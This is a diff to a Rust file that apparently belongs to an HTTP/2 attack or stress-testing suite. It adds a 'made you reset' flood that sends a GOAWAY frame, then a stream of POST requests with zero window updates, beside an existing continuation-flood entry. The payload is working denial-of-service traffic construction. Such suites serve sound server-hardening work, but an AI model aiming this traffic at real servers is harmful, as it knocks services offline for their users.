@@ -142,6 +142,19 @@ pub(crate) const ATTACKS: &[Attack] = &[
         }
         out
     }),
+    flood("made you reset: behind a GOAWAY", |n, host| {
+        let mut out = begin(n);
+        if n == 0 {
+            out.extend(frame(kind::GOAWAY, 0, 0, &[0; 8]));
+        }
+        // Those that it has opened, and ever new ones.
+        for id in ids(n, 20) {
+            out.extend(request(id, "POST", host, "/c", END_HEADERS));
+            out.extend(window_update(id, 0));
+            out.extend(window_update(1, 0));
+        }
+        out
+    }),
     flood("continuation flood", |n, host| {
         let mut out = begin(n);
         if n == 0 {
